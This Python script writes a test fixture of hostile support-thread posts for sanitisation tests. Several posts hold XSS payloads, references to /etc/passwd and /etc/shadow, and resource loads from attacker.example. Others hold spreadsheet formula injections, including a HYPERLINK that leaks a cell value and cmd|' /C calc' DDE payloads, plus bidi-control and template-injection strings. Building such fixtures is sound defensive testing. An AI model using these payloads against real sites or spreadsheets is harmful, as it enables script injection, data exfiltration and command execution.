# ruff: noqa: E501
"""Writes tests/data/hostile/hostile.json and hostile.csv (run once; the files are committed)."""
import csv
import io
import json
from pathlib import Path

OUT = Path("tests/data/hostile")
P = [
 ("1", None, "zoe", "Zoë", "@AcmeCo six weeks and no sofa <script>alert('pwned')</script> <img src=\"file:///etc/passwd\"> <img src=\"http://attacker.example/track.png\">"),
 ("2", "1", "AcmeCo", "Acme <b>Support</b>", "@zoe Sorry! <link rel=\"stylesheet\" href=\"http://attacker.example/x.css\"> <style>body{background:url(http://attacker.example/bg.png)}</style>"),
 ("3", "2", "<img src=x onerror=alert(1)>", "<script>document.title='x'</script>", "url(http://attacker.example/u.png) @import url(\"http://attacker.example/i.css\"); <iframe src=\"http://attacker.example/\"></iframe>"),
 ("4", "1", "svgman", None, "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><image href=\"file:///etc/shadow\"/></svg> <object data=\"file:///etc/hosts\"></object> <a href=\"javascript:alert(1)\">click</a>"),
 ("5", "1", "eve\u202e", "\u202egnp.exe\u202c Eve \u2066x\u2069", "refund \u202eevil reversed text\u202c and \u2067isolated\u2069 end"),
 ("6", "1", "zwj", "Fam\u200d\u200bily\ufeff", "zero\u200bwidth\u200djoin\u2060er \ufeffbom 👨\u200d👩\u200d👧 family"),
 ("7", "2", "ctrl", "Ctrl\x07Name\x1b[31m", "bell\x07 escape\x1b[31mred\x1b[0m null\x00 del\x7f c1\x85\x9b end"),
 ("8", "1", "longline", None, "A" * 50000),
 ("9", "2", "formula", "=HYPERLINK(\"http://attacker.example\",\"click\")", "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click me\")"),
 ("10", "2", "+plus", None, "+1+1"),
 ("11", "2", "-minus", None, "-2+3+cmd|' /C calc'!A0"),
 ("12", "2", "@at", None, "@SUM(1+1)*cmd|' /C calc'!A0"),
 ("13", "2", "tab", None, "\t=1+1"),
 ("14", "2", "cr", None, "\r=1+1"),
 ("15", "2", "entities", None, "&lt;script&gt;alert(2)&lt;/script&gt; &amp;lt;b&amp;gt; {{ 7*7 }} {% raw %} ${7*7}"),
]
START = 1709283600
posts = [{"id": i, "parent_id": p, "author": a, "author_name": n, "created_at": f"2024-03-01T09:{k:02d}:00Z", "text": t}
         for k, (i, p, a, n, t) in enumerate(P)]
(OUT / "hostile.json").write_text(json.dumps({"title": "Hostile <script>alert('title')</script>", "company": ["AcmeCo"], "posts": posts}, indent=1), encoding="utf-8")
buf = io.StringIO(newline="")
w = csv.writer(buf, lineterminator="\r\n")
w.writerow(["id", "parent_id", "author", "author_name", "created_at", "text"])
for post in posts:
    if post["id"] == "8":
        continue  # keep the CSV small; the JSON holds the 50k line
    w.writerow([post["id"], post["parent_id"] or "", post["author"], post["author_name"] or "", post["created_at"], post["text"].replace("\x00", "")])
(OUT / "hostile.csv").write_text(buf.getvalue(), encoding="utf-8", newline="")
